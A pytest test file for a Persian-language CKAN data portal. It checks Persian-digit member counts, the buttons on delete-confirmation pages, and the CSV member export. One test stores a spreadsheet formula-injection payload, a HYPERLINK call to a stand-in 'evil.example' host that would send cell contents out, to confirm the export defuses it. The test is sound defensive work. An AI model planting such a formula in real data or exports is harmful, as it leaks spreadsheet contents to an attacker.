"""Pages about people and groups count in the reader's digits."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from ckan import model
from ckan.tests import factories

pytestmark = pytest.mark.usefixtures("clean_db", "clean_index", "with_plugins")


def test_members_are_counted_in_persian_digits(app: Any, unit: Any, officer: Any) -> None:
    token = {"Authorization": officer["token"]}
    factories.Group(name="friends", users=[{"name": officer["name"], "capacity": "admin"}])
    members = app.get(f"/organization/members/{unit['name']}", headers=token)
    assert re.search("[۱۲] عضو", members.text)
    assert not re.search("[0-9] عضو", members.text)
    assert members.text.count("<h1") == 1
    groups = app.get("/dashboard/groups", headers=token).text
    assert re.search("[۱۲] عضو", groups)
    assert not re.search("[0-9] عضو", groups)
    english = app.get(f"/en/organization/members/{unit['name']}", headers=token).text
    assert re.search("[12] member", english)


def test_pages_that_ask_before_deleting_make_red_button_delete(
    app: Any, create: Any, unit: Any, officer: Any, sysadmin: Any
) -> None:
    made = create(resources=[{"url": "https://a.example/", "name": "الف"}])
    file = made["resources"][0]["id"]
    token = {"Authorization": sysadmin["token"]}
    for path in (
        f"/contract/delete/{made['name']}",
        f"/contract/{made['name']}/resource/{file}/delete",
        f"/organization/delete/{unit['name']}",
        f"/organization/member_delete/{unit['name']}?user={officer['id']}",
    ):
        page = app.get(path, headers=token).text
        assert '<button class="btn btn-danger" type="submit" name="delete">' in page, path
        assert '<button class="btn btn-secondary" type="submit" name="cancel">' in page, path
        assert page.count("<h1") == 1
        app.post(path, headers=token, data={"cancel": ""}, follow_redirects=False)
    assert app.get(f"/contract/{made['name']}").status_code == 200


def test_members_are_downloaded_as_cells_that_never_run(
    app: Any, unit: Any, administrator: Any, officer: Any
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    model.User.get(officer["name"]).fullname = formula
    model.Session.commit()
    address = f"/organization/member_dump/{unit['name']}"
    for prefix in ("", "/en"):
        answer = app.get(f"{prefix}{address}", headers={"Authorization": administrator["token"]})
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.text)))
        assert [officer["name"], officer["email"], f"'{formula}"] in [row[:3] for row in rows]
    for nobody in ({}, {"Authorization": officer["token"]}):
        assert app.get(address, headers=nobody, follow_redirects=False).status_code == 403
